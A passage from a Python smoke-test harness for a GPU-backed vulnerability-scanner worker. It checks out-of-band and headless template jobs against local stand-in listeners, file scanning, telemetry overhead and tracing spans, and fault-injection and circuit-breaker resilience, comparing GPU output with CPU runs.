    ``ACTIVE_LISTENERS`` listeners of :class:`OobFleet` (one in
    ``OOB_VULNERABLE`` (listener, OOB path) pairs calls back; the last
    listener serves the headless pages), pipeline on, under the
    profiler (the card's idle share over the job), the corpus's engine
    built before it. The job must end ``complete``; its lines, the
    tokens in its extractions masked, equal the same job on the CPU in
    this process; every OOB template fires on its vulnerable pairs and
    on no patched one; the drain's rows reach the card in batches whose
    ``oobp`` and ``oobr`` are wider than 1; every kernel call of the
    job, the drain's included, equals its plain version; the headless
    round's hits equal a serial round of the same scanner. → launches."""
    import tempfile

    from swarm_tpu_torch.fingerprints.nuclei import parse_template
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.worker import headless
    from swarm_tpu_torch.worker.oob import _TOKEN_RE
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    t_phase = time.perf_counter()
    use_db_cache("oob")
    docs, plants, oob = oob_headless_corpus(0)
    docs = docs + workflow_docs(docs, plants)
    templates = [parse_template(d) for d in docs]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.bind(("0.0.0.0", 0))
        dns_port = u.getsockname()[1]
    hl = ACTIVE_LISTENERS - 1
    reply = active_replies(docs, plants, ACTIVE_LISTENERS)
    with tempfile.TemporaryDirectory() as tmp, \
            OobFleet(ACTIVE_LISTENERS, reply, dns_port, headless=hl) as fleet:
        corpus, modules = Path(tmp) / "corpus", Path(tmp) / "modules"
        corpus.mkdir()
        modules.mkdir()
        try:
            import yaml

            dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
            for doc in docs:
                (corpus / f"{doc['id']}.yaml").write_text(yaml.dump(doc, Dumper=dumper))
            route = "yaml"
        except ImportError:
            route = "engine_cache"
        spec = json.loads((REPO / "modules" / "nuclei-oob.json").read_text())
        spec["templates"] = str(corpus)
        spec["probe"] = {**spec["probe"], "resolvers": ["127.0.0.1"], "read_timeout_ms": 2500,
                         "oob": {**spec["probe"]["oob"], "dns_port": dns_port,
                                 "domain": OOB_DOMAIN}}
        if spec["probe"]["oob"]["poll_s"] != 3.0:
            raise AssertionError("nuclei-oob: the module's poll window is not 3.0 s")
        (modules / "nuclei-oob.json").write_text(json.dumps(spec))
        blob = ("\n".join(fleet.targets) + "\n").encode()
        procs, engine_s = {}, {}
        for device in ("cuda", "cpu"):
            cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke", modules_dir=str(modules),
                               max_jobs=1, pipeline="on", poll_interval_idle_s=0.05,
                               poll_interval_busy_s=0.0)
            procs[device] = proc = JobProcessor(cfg, device=device)
            t0 = time.perf_counter()
            if route == "engine_cache":
                proc.engines[str(corpus)] = MatchEngine(templates, device=device, pipeline="on")
            proc.engine_for(str(corpus))
            engine_s[device] = time.perf_counter() - t0
        set_up_s = time.perf_counter() - t_phase
        kernels.reset_launches()
        out = []
        t0 = time.perf_counter()
        with kernels.record_calls() as calls, oob_clock(calls) as clock:
            trace = profile_call(lambda: out.append(worker_job(procs["cuda"], "nuclei-oob", blob)),
                                 "oob.job", ())
        traced_s = time.perf_counter() - t0
        launches = dict(kernels.LAUNCHES)
        output, seconds, perf = out[0]
        callbacks = fleet.callbacks
        sc, live, pooled = clock.round
        headless.configure_headless(0)
        try:
            serial = sc.run(live)
        finally:
            headless.configure_headless(None)
        t0 = time.perf_counter()
        twin = worker_job(procs["cpu"], "nuclei-oob", blob)[0]
        twin_s = time.perf_counter() - t0
    if _TOKEN_RE.sub(b"si-token", output) != _TOKEN_RE.sub(b"si-token", twin):
        raise AssertionError("nuclei-oob: the card's lines differ from the CPU run")
    if serial != pooled:
        raise AssertionError("nuclei-oob: the pooled headless round differs from the serial one")
    text = output.decode()
    fired = _oob_fired(text, fleet.targets)
    want = {(k, tid) for tid, (name, _shape) in oob.items() for k in range(ACTIVE_LISTENERS)
            if oob_vulnerable(k, name)}
    if fired != want:
        raise AssertionError(f"nuclei-oob: OOB lines on {len(fired)} pairs, "
                             f"{len(fired - want)} patched, {len(want - fired)} vulnerable missed")
    hl_target = fleet.targets[hl]
    hl_fired = {m.group(1) for m in re.finditer(
        r"^\[(chip-hl-[\w-]+)\] \[headless\] \[\w+\] " + re.escape(hl_target) + r"( |$)", text,
        re.M)}
    hl_want = {d["id"] for d in headless_docs()[:HEADLESS_RUN]}
    if hl_fired != hl_want or "# [chip-hl-js-required] [headless-skipped]" not in text:
        raise AssertionError(f"nuclei-oob: headless lines {sorted(hl_fired)}")
    drain = clock.drain
    wp = max((b["oobp_width"] for b in drain["batches"]), default=0)
    wr = max((b["oobr_width"] for b in drain["batches"]), default=0)
    if not drain["device_rows"] or wp <= 1 or wr <= 1:
        raise AssertionError(f"nuclei-oob: the drain did not reach the card: {drain}")
    t0 = time.perf_counter()
    max_err = check_calls(calls)
    check_s = time.perf_counter() - t0
    drain_calls = {}
    for name, _args in calls[drain["calls"][0]:drain["calls"][1]]:
        drain_calls[name] = drain_calls.get(name, 0) + 1
    need = ("match_phase_a", "match_verify", "match_regex_scan", "match_verdicts")
    missing = [k for k in need if not drain_calls.get(k)]
    if missing:
        raise AssertionError(f"nuclei-oob: the drain made no call of {missing}")
    stats = clock.stats
    emit({
        "phase": "oob_headless_worker", "status": "complete", "route": route,
        "templates": len(templates), "oob_templates": len(oob),
        "headless_templates": stats["headless_templates"], "listeners": ACTIVE_LISTENERS,
        "poll_s": spec["probe"]["oob"]["poll_s"], "lines": len(text.splitlines()),
        "oob_lines": len(fired), "vulnerable_pairs": len(want), "callbacks": callbacks,
        "headless_lines_on_its_listener": len(hl_fired),
        "oob_probes": stats["oob_probes"], "oob_interactions": stats["oob_interactions"],
        "headless_hits": stats["headless_hits"], "headless_serial_identical": len(serial),
        "perf_fields": {k: perf[k] for k in ("targets", "live_targets", "rows_probed",
                                              "oob_probes", "oob_interactions", "hits")},
        "seconds": seconds, "engine_build_s": engine_s, "stages": clock.s,
        "drain": {**drain, "kernel_calls": drain_calls, "max_oobp_width": wp,
                  "max_oobr_width": wr},
        "sched": perf.get("sched"), "launches": launches, "max_abs_err": max_err,
        "kernel_calls_checked": len(calls),
        "trace": {k: trace[k] for k in ("call_ms", "device_busy_ms", "idle_share",
                                        "kernel_launches", "copies_ms")},
        "cpu_twin_s": twin_s, "set_up_s": set_up_s, "traced_s": traced_s,
        "check_calls_s": check_s, "phase_s": time.perf_counter() - t_phase, "card": smi,
    })
    return launches


def docs_path(template) -> str:
    """A planned template's request path (its one GET), as sent."""
    path = template.operations[0].paths[0].replace("{{BaseURL}}", "")
    return path or "/"


def phase_file_worker(smi: str) -> dict:
    """The worker's ``file`` backend: :func:`file_corpus` (76 templates of
    the reference's recorded file-corpus shape) over ``FILE_JOB_FILES``
    files (:func:`write_file_tree`: some past the engine's 4,096-byte
    ``max_body``, some planted past byte 4,096) in one ``file`` job with
    ``scan_root`` set, on the card. Its output must be byte-identical to
    the same job on the CPU, the match kernels launched, every call
    equal to its plain version. → launches."""
    import tempfile

    from swarm_tpu_torch.fingerprints.nuclei import parse_template
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.worker.filescan import FileScanner
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    docs, plants = file_corpus(0)
    with tempfile.TemporaryDirectory() as tmp:
        corpus, files, modules = Path(tmp) / "corpus", Path(tmp) / "files", Path(tmp) / "modules"
        corpus.mkdir()
        modules.mkdir()
        counts = write_file_tree(files, FILE_JOB_FILES, plants)
        try:
            import yaml

            for doc in docs:
                (corpus / f"{doc['id']}.yaml").write_text(yaml.safe_dump(doc))
            route = "yaml"
        except ImportError:
            route = "scanner_cache"
        (modules / "files.json").write_text(json.dumps(
            {"backend": "file", "templates": str(corpus), "scan_root": str(files)}))
        key = f"file::{corpus}::{files}"
        blob = f"{files}\n".encode()
        cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke", modules_dir=str(modules),
                           max_jobs=1, poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
        builds = {}
        for device in ("cuda", "cpu"):
            builds[device] = JobProcessor(cfg, device=device)
            if route == "scanner_cache":
                builds[device].engines[key] = FileScanner(
                    [parse_template(d) for d in docs], scan_root=str(files), device=device)
        proc, cpu = builds["cuda"], builds["cpu"]
        kernels.reset_launches()
        with kernels.record_calls() as calls:
            output, seconds, _perf = worker_job(proc, "files", blob)
        launches = dict(kernels.LAUNCHES)
        st = proc.engines[key].engine.stats
        t0 = time.perf_counter()
        twin = cpu._execute_file(cpu.registry.load("files"), blob)
        twin_s = time.perf_counter() - t0
    max_err = check_calls(calls)
    if output != twin:
        raise AssertionError("file: cuda output differs from the CPU run")
    lines = output.decode().splitlines()
    if st.overflow_rows != counts["long"] or not lines:
        raise AssertionError(f"file: {st.overflow_rows} rows redone for {counts['long']} long"
                             f" files, {len(lines)} lines")
    missing = [k for k in ("match_phase_a", "match_verify", "match_verdicts")
               if launches[k] < 1]
    if missing:
        raise AssertionError(f"file job: no launch of {missing}")
    emit({"phase": "file_worker", "status": "complete", "route": route,
          "templates": len(docs), "files": counts, "files_scanned": st.rows,
          "lines": len(lines), "device_batches": st.batches, "device_rows": st.unique_rows,
          "rows_redone_on_host": st.overflow_rows, "seconds": seconds,
          "cpu_twin_s": twin_s, "launches": launches, "max_abs_err": max_err,
          "cpu_twin_identical": True, "card": smi})
    return launches


def phase_command_worker() -> None:
    """The ``echo`` module (a command, no backend) through the worker on
    the card machine: the output must be the input."""
    import tempfile

    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    blob = "".join(f"10.0.{i // 250}.{i % 250}:443\n" for i in range(1000)).encode()
    with tempfile.TemporaryDirectory() as work:
        cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke",
                           modules_dir=str(REPO / "modules"), max_jobs=1,
                           poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
        output, seconds, _perf = worker_job(JobProcessor(cfg, device="cuda", work_dir=work),
                                            "echo", blob)
    if output != blob:
        raise AssertionError("echo: output differs from the input")
    emit({"phase": "command_worker", "status": "complete", "bytes": len(output),
          "seconds": seconds})


#: interleaved pairs of fresh match calls of ``phase_telemetry_cost``
TELEMETRY_COST_PAIRS = 24


@contextlib.contextmanager
def metrics_off():
    """Every mutator of the port's metric families (``labels`` and the
    ``inc``/``set``/``observe`` of a family or a labelled handle) a
    no-op in the block; the call sites' own work (a batch's byte sum,
    the calls themselves) stays."""
    from swarm_tpu_torch.telemetry import metrics as m

    def noop(self, *args, **kw):
        return None

    class Noop:
        inc = set = observe = noop

    handle = Noop()
    patches = {(m._Metric, "labels"): lambda self, *a, **kw: handle}
    for cls, names in ((m._Handle, ("inc", "set", "observe")), (m.Counter, ("inc",)),
                       (m.Gauge, ("set", "inc")), (m.Histogram, ("observe",))):
        for name in names:
            if name in vars(cls):
                patches[(cls, name)] = noop
    saved = {key: vars(key[0])[key[1]] for key in patches}
    for (cls, name), fn in patches.items():
        setattr(cls, name, fn)
    try:
        yield
    finally:
        for (cls, name), fn in saved.items():
            setattr(cls, name, fn)


def phase_telemetry_cost(eng, rows, smi: str, pairs: int = TELEMETRY_COST_PAIRS) -> dict:
    """What the match path's metric calls cost on the match phase's
    engine: ``pairs`` pairs of fresh ``eng.match(rows)`` calls (content
    memos cleared outside the timed call), one call with the port's
    metric families as they are and one under :func:`metrics_off`, the
    order within a pair alternating. The staged-batch counter must move
    in every call with the families on and in none with them off. →
    each call's ms and the median of the pairs' on ÷ off ratios."""
    import torch

    from swarm_tpu_torch.telemetry import device_export

    staged = device_export.STAGED_BATCHES._unlabeled()  # a handle: its value
    ms = {"on": [], "off": []}
    eng.clear_content_memos()
    eng.match(rows)  # warm
    torch.cuda.synchronize()
    for k in range(pairs):
        for arm in ("on", "off") if k % 2 == 0 else ("off", "on"):
            eng.clear_content_memos()
            before = staged.value
            with metrics_off() if arm == "off" else contextlib.nullcontext():
                t0 = time.perf_counter()
                eng.match(rows)
                ms[arm].append((time.perf_counter() - t0) * 1e3)
            moved = staged.value - before
            if (arm == "on") != (moved > 0):
                raise AssertionError(f"telemetry_cost: {arm} call moved the staged "
                                     f"batches by {moved}")
    ratios = [a / b for a, b in zip(ms["on"], ms["off"])]
    out = {"phase": "telemetry_cost", "rows": len(rows), "pairs": pairs,
           "on_ms": ms["on"], "off_ms": ms["off"],
           "median_on_over_off": float(np.median(ratios)),
           "on_over_off_quartiles": [float(q) for q in np.percentile(ratios, [25, 75])],
           "rows_per_s_on": len(rows) * pairs / sum(ms["on"]) * 1e3,
           "rows_per_s_off": len(rows) * pairs / sum(ms["off"]) * 1e3, "card": smi}
    emit(out)
    return out


TELEMETRY_JOB_ROWS = 4096
#: the runs of each telemetry job: (arm, traced, profiled)
TELEMETRY_ARMS = (("warm", False, False), ("untraced", False, False), ("traced", True, False),
                  ("traced", True, False), ("untraced", False, False), ("profiled", True, True))
#: (parent span name, span name) of every span a job ships, by job: the
#: attempt root and its phases; a ``tpu`` job's device and walk spans
#: synthesized under ``execute``; the pipelined drive's ``sched`` span
ATTEMPT_SPANS = {(None, "attempt"): 1, ("attempt", "download"): 1,
                 ("attempt", "execute"): 1, ("attempt", "upload"): 1}
TPU_SPANS = {**ATTEMPT_SPANS, ("execute", "device"): 1, ("device", "device.phase_a"): 1,
             ("device", "device.phase_b"): 1, ("execute", "walk"): 1}


def span_tree(spans: list) -> dict:
    """(parent name, name) → count over a job's spans; every parent must
    be among them (no orphan)."""
    by_id = {s["span_id"]: s["name"] for s in spans}
    tree: dict = {}
    for s in spans:
        if s["parent_id"] is not None and s["parent_id"] not in by_id:
            raise AssertionError(f"span {s['name']} has no parent among the job's spans")
        key = (by_id.get(s["parent_id"]), s["name"])
        tree[key] = tree.get(key, 0) + 1
    return tree


def profiled_kernels(profile_dir: Path, job_id: str) -> set:
    """The ``__global__`` functions of the card's kernel events in the
    job's ``torch.profiler`` trace."""
    from swarm_tpu_torch.utils.trace import profiled_symbols

    [path] = list((profile_dir / job_id).glob("trace_*.json"))
    return profiled_symbols(str(path))


def phase_telemetry_worker(templates, plants, db, smi: str) -> dict:
    """The worker's telemetry on the card: a ``jarm`` job (both cluster
    kernels) and a ``fingerprint`` job of ``TELEMETRY_JOB_ROWS`` rows
    with the pipeline off and on, each through the stand-in server in
    the order of ``TELEMETRY_ARMS``: untraced to warm up, then untraced
    and traced (``SWARM_TRACE=1``, a ``trace_id`` on the job) in turns,
    then traced with ``SWARM_PROFILE_DIR`` set and its kernel calls
    recorded. Each job
    ends ``complete``, byte-identical to its untraced run; its spans (on
    ``perf["spans"]``, or ``POST /spans`` for the ``jarm`` job, whose
    inline limit is set to 2 here to drive that route) have the
    reference's names and nesting; the ``fingerprint`` job's ``rows``
    equal its rows and ``device_s`` > 0; the profile names every kernel
    the job launched; every recorded match-kernel call equals its plain
    version, and the ``jarm`` job's output the same module's on the CPU
    (the cluster kernels' plain versions); the rendered registry parses,
    with non-zero worker, sched, device and memo samples. The profiled
    job runs once: the worker fails a job whose profile lacks a kernel
    it launched (``utils/trace.py``), and this phase then fails. Prints
    the traced ÷ untraced job seconds (means of two runs each)."""
    import tempfile

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.telemetry import REGISTRY, tracing
    from swarm_tpu_torch.telemetry.metrics import parse_exposition
    from swarm_tpu_torch.worker import runtime
    from swarm_tpu_torch.worker.runtime import JobProcessor, ServerClient, WorkerConfig

    t_phase = time.perf_counter()
    complete = ["starting", "downloading", "executing", "uploading", "complete"]
    saved_env = {k: os.environ.get(k) for k in
                 ("SWARM_TEMPLATES_DIR", "SWARM_TRACE", "SWARM_PROFILE_DIR")}
    saved_inline = runtime._SPAN_INLINE_MAX

    def run(proc, module: str, blob: bytes, trace: bool = False,
            profile_dir: Path | None = None) -> tuple:
        """One job through ``proc`` → (stub, seconds)."""
        stub = StubServer(blob, module=module, trace_id=f"tel{time.time_ns():x}")
        if trace:
            os.environ["SWARM_TRACE"] = "1"
        if profile_dir is not None:
            os.environ["SWARM_PROFILE_DIR"] = str(profile_dir)
        tracing.set_enabled(None)  # re-read the environment
        try:
            proc.client = ServerClient(stub.url, API_KEY)
            t0 = time.perf_counter()
            proc.process_jobs()
            seconds = time.perf_counter() - t0
        finally:
            stub.close()
            os.environ.pop("SWARM_TRACE", None)
            os.environ.pop("SWARM_PROFILE_DIR", None)
            tracing.set_enabled(None)
        if stub.statuses != complete:
            raise AssertionError(f"{module} job statuses {stub.statuses}")
        if not trace and stub.spans:
            raise AssertionError(f"untraced {module} job shipped {len(stub.spans)} spans")
        return stub, seconds

    jobs: dict = {}
    try:
        with tempfile.TemporaryDirectory() as work, \
                tempfile.TemporaryDirectory() as corpus_dir, \
                tempfile.TemporaryDirectory() as profiles, \
                SyntheticTlsFleet(per_shape=8) as fleet:
            os.environ["SWARM_TEMPLATES_DIR"] = corpus_dir
            profiles = Path(profiles)
            cfg = dict(api_key=API_KEY, worker_id="chip-smoke",
                       modules_dir=str(REPO / "modules"), max_jobs=1,
                       poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
            dicts = realistic_rows(TELEMETRY_JOB_ROWS, seed=31, plants=plants)
            specs = {"jarm": ("jarm", ("\n".join(fleet.targets) + "\n").encode(), "off"),
                     "fingerprint_off": ("fingerprint", jsonl_rows(dicts), "off"),
                     "fingerprint_on": ("fingerprint", jsonl_rows(dicts), "on")}
            for name, (module, blob, mode) in specs.items():
                proc = JobProcessor(WorkerConfig(pipeline=mode, **cfg), device="cuda",
                                    work_dir=str(Path(work) / name))
                engine = None
                if module == "fingerprint":
                    engine = MatchEngine(templates, db=db, device="cuda", pipeline=mode)
                    proc.engines[corpus_dir] = engine
                # the inline limit at 2: the jarm job's 4 spans go by POST /spans
                runtime._SPAN_INLINE_MAX = 2 if module == "jarm" else saved_inline
                runs = []  # (arm, stub, seconds, launches, recorded calls)
                for arm, trace, profile in TELEMETRY_ARMS:
                    if engine is not None:
                        engine.clear_content_memos()  # every job's rows fresh
                    kernels.reset_launches()
                    with kernels.record_calls() as calls:
                        stub, seconds = run(proc, module, blob, trace=trace,
                                            profile_dir=profiles / name if profile else None)
                    runs.append((arm, stub, seconds, dict(kernels.LAUNCHES), calls))
                runtime._SPAN_INLINE_MAX = saved_inline
                out = runs[0][1].output
                if any(r[1].output != out for r in runs):
                    raise AssertionError(f"{name}: a traced or profiled job's output differs")
                want = ATTEMPT_SPANS if module == "jarm" else {
                    **TPU_SPANS, **({("execute", "sched"): 1} if mode == "on" else {})}
                trees = [span_tree(r[1].spans) for r in runs if r[0] != "warm" and r[1].spans]
                if len(trees) != 3 or any(t != want for t in trees):
                    raise AssertionError(f"{name}: span trees {trees}, want {want}")
                _arm, stub, _s, launches, calls = runs[-1]
                launched = sorted(k for k, n in launches.items() if n)
                names = profiled_kernels(profiles / name, stub.job["job_id"])
                want_syms = {sym for k in launched for sym in kernels.SYMBOLS[k]}
                if not want_syms <= names:
                    raise AssertionError(f"{name}: the profile names no "
                                         f"{sorted(want_syms - names)}")
                found = sorted(want_syms)
                seconds = {arm: [r[2] for r in runs if r[0] == arm]
                           for arm in dict.fromkeys(a for a, _t, _p in TELEMETRY_ARMS)}
                mean = {arm: sum(v) / len(v) for arm, v in seconds.items()}
                traced_run = runs[2][1]
                line = {"seconds": seconds,
                        "traced_over_untraced": mean["traced"] / mean["untraced"],
                        "profiled_over_untraced": mean["profiled"] / mean["untraced"],
                        "spans": len(traced_run.spans), "spans_posted": traced_run.posted_spans,
                        "span_tree": {f"{p}>{n}": c for (p, n), c in trees[0].items()},
                        "launches": launches, "profile_kernels": found,
                        "profile_kernel_functions": len(names)}
                if module == "jarm":
                    if min(launches["cluster_counts"], launches["cluster_parent"]) < 1:
                        raise AssertionError(f"jarm job: cluster kernels not launched {launches}")
                    if traced_run.posted_spans != len(traced_run.spans):
                        raise AssertionError("jarm job: spans not shipped by POST /spans")
                    cpu = JobProcessor(WorkerConfig(**cfg), device="cpu")
                    if cpu._execute_jarm(cpu.registry.load("jarm"), blob) != out:
                        raise AssertionError("jarm job: output differs from the CPU run")
                else:
                    if launched != sorted(MATCH_KERNELS):
                        raise AssertionError(f"{name}: launched {launched}")
                    line["max_abs_err"] = check_calls(calls)
                    perf = traced_run.perf
                    if perf["rows"] != len(dicts) or not perf["device_s"] > 0:
                        raise AssertionError(f"{name}: perf rows {perf['rows']}, "
                                             f"device_s {perf['device_s']}")
                    keys = list(runs[1][1].perf)
                    if "phase_a_s" in keys or keys[:8] != [
                            "download_s", "execute_s", "upload_s", "input_bytes",
                            "output_bytes", "rows", "device_s", "host_confirm_s"]:
                        raise AssertionError(f"{name}: untraced perf keys {keys}")
                    line["perf"] = {k: perf[k] for k in (
                        "rows", "device_s", "host_confirm_s", "phase_a_s", "phase_b_s")
                        if k in perf}
                jobs[name] = line
            samples: dict = {}
            for fam, _labels, value in parse_exposition(REGISTRY.render()):
                samples[fam] = samples.get(fam, 0.0) + value
            wanted = ("swarm_worker_jobs_total", "swarm_worker_phase_seconds_count",
                      "swarm_worker_rows_total", "swarm_sched_rows_total",
                      "swarm_sched_batches_total", "swarm_device_staged_batches_total",
                      "swarm_device_compacted_dispatches_total", "swarm_memo_lookups_total",
                      "swarm_trace_spans_total", "swarm_events_total", "swarm_engine_rows")
            zero = [f for f in wanted if not samples.get(f)]
            if zero:
                raise AssertionError(f"registry: no samples of {zero}")
    finally:
        runtime._SPAN_INLINE_MAX = saved_inline
        for k, v in saved_env.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
        tracing.set_enabled(None)
    out = {"phase": "telemetry_worker", "rows": TELEMETRY_JOB_ROWS, "jobs": jobs,
           "registry": {f: samples[f] for f in wanted}, "registry_families": len(
               REGISTRY._metrics), "seconds": time.perf_counter() - t_phase, "card": smi}
    emit(out)
    return out


RESILIENCE_JOB_ROWS = 4096
#: the degraded job per pipeline mode: its fault plan, the engine's
#: breaker threshold, cooldown and batch rows, and the device faults
#: the plan makes. Pipeline off, the first two dispatches fail and open
#: the breaker; pipeline on, one fails, in batches of 256 rows, since
#: each degraded batch is seconds of host oracle work and the in-flight
#: batches that meet the open breaker (or the half-open probe still in
#: flight) degrade too. Pipeline on, the walk retries a batch whose
#: dispatch failed once the cooldown is over: the cooldown outlasts the
#: few in-flight launches before the first walk, and ends within that
#: walk's oracle redo, so the breaker closes during the job
RESILIENCE_JOBS = {
    "off": {"plan": "device.dispatch:1-2", "threshold": 2, "cooldown_s": 0.5,
            "batch_rows": 1024, "faults": 2},
    "on": {"plan": "device.dispatch:1", "threshold": 1, "cooldown_s": 1.5,
           "batch_rows": 256, "faults": 1},
}
HEARTBEAT_S = 0.1
SLOW_CHUNK_S = 0.45


class breaker_log:
    """Every breaker state change made in the block, as (breaker name,
    new state) in order."""

    def __enter__(self) -> list:
        from swarm_tpu_torch.resilience.breaker import CircuitBreaker

        self.events: list = []
        saved = self._saved = CircuitBreaker._transition
        events = self.events

        def transition(br, state):
            if state != br._state:
                events.append((br.name, state))
            saved(br, state)

        CircuitBreaker._transition = transition
        return self.events

    def __exit__(self, *exc):
        from swarm_tpu_torch.resilience.breaker import CircuitBreaker

        CircuitBreaker._transition = self._saved


def _in_order(events: list, states: tuple) -> bool:
    """Whether ``states`` occur in ``events`` in that order (not
    necessarily adjacent)."""
    it = iter(state for _name, state in events)
    return all(any(st == want for st in it) for want in states)


def phase_resilience_worker(templates, plants, db, smi: str) -> dict:
    """The worker's resilience against the stand-in server, three jobs
    of ``RESILIENCE_JOB_ROWS`` realistic rows on the match corpus:

    (a) a ``fingerprint`` job under ``SWARM_FAULT_PLAN=device.dispatch:1-2``
        (the first two device dispatches fail before their upload) on an
        engine whose device breaker opens after 2 faults and cools down
        for 0.5 s, pipeline off; then pipeline on, under
        ``device.dispatch:1`` with the breaker opening at the first
        fault and cooling down for 1.5 s (``RESILIENCE_JOBS``): each job ends ``complete``,
        byte-identical to the fault-free job with the pipeline off; the
        plan's faults; the degraded batches redone on the CPU oracle (2
        with the pipeline off; at least 1 with it on); the breaker
        open, then half-open, then closed; kernel launches after the
        cooldown, every call equal to its plain version;
    (b) a chunk slowed by ``executor.run:1:sleep=`` past three heartbeat
        intervals (pipeline on): at least three renewals reach the stub,
        and the heartbeat stops with the job;
    (c) an upload outage longer than the retries (pipeline off): the
        output spooled, replayed byte-identical on the next poll; then a
        drain header: the worker ends ``completed`` or ``idle`` and
        deregisters once;
    (d) a kernel wrapper that raises on the card: the error propagates
        out of ``match``, with no device fault and no degraded batch.
    """
    import tempfile

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.resilience import clear_plan
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    t_phase = time.perf_counter()
    dicts = realistic_rows(RESILIENCE_JOB_ROWS, seed=29, plants=plants)
    blob = jsonl_rows(dicts)
    engines = {mode: MatchEngine(templates, db=db, device="cuda", pipeline=mode,
                                 batch_rows=spec["batch_rows"],
                                 device_breaker_threshold=spec["threshold"],
                                 device_breaker_cooldown_s=spec["cooldown_s"])
               for mode, spec in RESILIENCE_JOBS.items()}
    complete = ["starting", "downloading", "executing", "uploading", "complete"]
    saved = {k: os.environ.get(k) for k in ("SWARM_TEMPLATES_DIR", "SWARM_FAULT_PLAN")}
    out: dict = {}
    with tempfile.TemporaryDirectory() as corpus_dir, \
            tempfile.TemporaryDirectory() as work:
        os.environ["SWARM_TEMPLATES_DIR"] = corpus_dir

        def job(mode: str, stub, name: str, **cfg_kw) -> tuple:
            """One run of the worker against ``stub`` → (worker, seconds)."""
            cfg = WorkerConfig.from_env(
                server_url=stub.url, api_key=API_KEY, worker_id="chip-smoke",
                modules_dir=str(REPO / "modules"), poll_interval_idle_s=0.05,
                poll_interval_busy_s=0.0, pipeline=mode, transport_retries=2,
                transport_backoff_s=0.01, transport_backoff_max_s=0.05,
                spool_dir=str(Path(work) / name), **cfg_kw)
            proc = JobProcessor(cfg, device="cuda", work_dir=str(Path(work) / name))
            proc.engines[corpus_dir] = engines[mode]
            engines[mode].clear_content_memos()
            t0 = time.perf_counter()
            try:
                proc.process_jobs()
            finally:
                stub.close()
                clear_plan()
            return proc, time.perf_counter() - t0

        try:
            # (a) the degraded job, beside the same job without a plan
            clean = {}
            for mode, spec in RESILIENCE_JOBS.items():
                eng = engines[mode]
                stub = StubServer(blob, module="fingerprint")
                _proc, clean_s = job(mode, stub, f"clean_{mode}", max_jobs=1)
                if stub.statuses != complete:
                    raise AssertionError(f"fault-free job ({mode}) statuses {stub.statuses}")
                clean[mode] = stub.output
                if clean[mode] != clean["off"]:
                    raise AssertionError(f"fault-free job ({mode}) output differs from "
                                         "the pipeline-off job")
                if eng.stats.device_faults or eng.stats.degraded_batches:
                    raise AssertionError(f"fault-free job ({mode}): {eng.stats}")
                os.environ["SWARM_FAULT_PLAN"] = spec["plan"]
                batches0 = eng.stats.batches
                kernels.reset_launches()
                stub = StubServer(blob, module="fingerprint")
                with breaker_log() as events, kernels.record_calls() as calls:
                    _proc, seconds = job(mode, stub, f"degraded_{mode}", max_jobs=1)
                os.environ.pop("SWARM_FAULT_PLAN")
                launches = {k: kernels.LAUNCHES[k] for k in MATCH_KERNELS}
                st = eng.stats
                states = eng._device_breakers.states()
                line = {"mode": mode, "plan": spec["plan"], "batch_rows": spec["batch_rows"],
                        "breaker_threshold": spec["threshold"],
                        "cooldown_s": spec["cooldown_s"], "seconds": seconds,
                        "fault_free_seconds": clean_s, "device_faults": st.device_faults,
                        "degraded_batches": st.degraded_batches,
                        "batches": st.batches - batches0,
                        "breaker_events": [state for _n, state in events],
                        "breaker_states": states, "launches_after_cooldown": launches,
                        "status": stub.statuses[-1] if stub.statuses else None}
                emit({"phase": "resilience_worker", "job": "degraded", **line})
                if stub.statuses != complete:
                    raise AssertionError(f"degraded job ({mode}) statuses {stub.statuses}")
                if stub.output != clean["off"]:
                    raise AssertionError(f"degraded job ({mode}) output differs from the "
                                         "fault-free job")
                # pipeline off, each fault degrades its own batch and
                # nothing else; pipeline on, batches already in flight
                # when the breaker opened may degrade as well
                want = spec["faults"]
                if st.device_faults != want or not (
                        st.degraded_batches == want if mode == "off"
                        else want <= st.degraded_batches < st.batches - batches0):
                    raise AssertionError(f"degraded job ({mode}): {st.device_faults} faults, "
                                         f"{st.degraded_batches} degraded batches, want {want}")
                if not _in_order(events, ("open", "half-open", "closed")):
                    raise AssertionError(f"degraded job ({mode}): breaker events {events}")
                if any(v != "closed" for v in states.values()):
                    raise AssertionError(f"degraded job ({mode}): breakers {states}")
                if sum(launches.values()) < 1:
                    raise AssertionError(f"degraded job ({mode}): no launch after the cooldown")
                line["max_abs_err"] = check_calls(calls)
                out[f"degraded_{mode}"] = line

            # (b) a slow chunk keeps its lease
            stub = StubServer(blob, module="fingerprint")
            proc, seconds = job("on", stub, "slow", max_jobs=1, heartbeat_interval_s=HEARTBEAT_S,
                                fault_plan=f"executor.run:1:sleep={SLOW_CHUNK_S}")
            hb = proc._last_heartbeat
            out["slow_chunk"] = line = {
                "seconds": seconds, "heartbeat_interval_s": HEARTBEAT_S,
                "sleep_s": SLOW_CHUNK_S, "renewals": stub.renewals,
                "heartbeat_renewals": hb.renewals, "heartbeat_running": hb.running,
                "status": stub.statuses[-1] if stub.statuses else None}
            emit({"phase": "resilience_worker", "job": "slow_chunk", **line})
            if stub.statuses != complete or stub.output != clean["off"]:
                raise AssertionError(f"slow chunk: statuses {stub.statuses} or output differs")
            if stub.renewals < 3 or hb.running:
                raise AssertionError(f"slow chunk: {stub.renewals} renewals, running {hb.running}")

            # (c) an upload outage longer than the retries, then a drain
